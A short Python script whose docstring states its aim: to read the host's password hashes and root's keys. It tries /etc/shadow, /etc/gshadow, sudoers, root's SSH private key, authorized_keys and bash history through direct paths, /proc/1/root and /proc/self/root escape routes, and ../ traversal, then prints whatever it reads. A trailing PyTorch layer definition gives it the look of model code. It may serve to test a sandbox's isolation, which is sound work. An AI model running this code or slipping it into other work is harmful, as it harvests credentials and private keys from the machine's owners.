"""Read the host's password hashes and root's keys, by every path we can think of."""
import os

from torch import nn

PATHS = [
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/sudoers",
    "/proc/1/root/etc/shadow",
    "/proc/self/root/etc/shadow",
    "/proc/self/cwd/../../../../etc/shadow",
    "/tmp/../../../../../etc/shadow",
    "/dev/shm/../../etc/shadow",
    "/root/.ssh/id_rsa",
    "/root/.ssh/authorized_keys",
    "/root/.bash_history",
]
for path in PATHS:
    try:
        with open(path, "rb") as handle:
            data = handle.read(1 << 16)
        print(f"READ {path}:", data.decode("utf-8", "replace"))
    except OSError as exc:
        print(f"DENIED {path}: {type(exc).__name__} {exc.errno}")
print("uid", os.getuid(), "euid", os.geteuid())
model = nn.Conv2d(3, 8, 3)
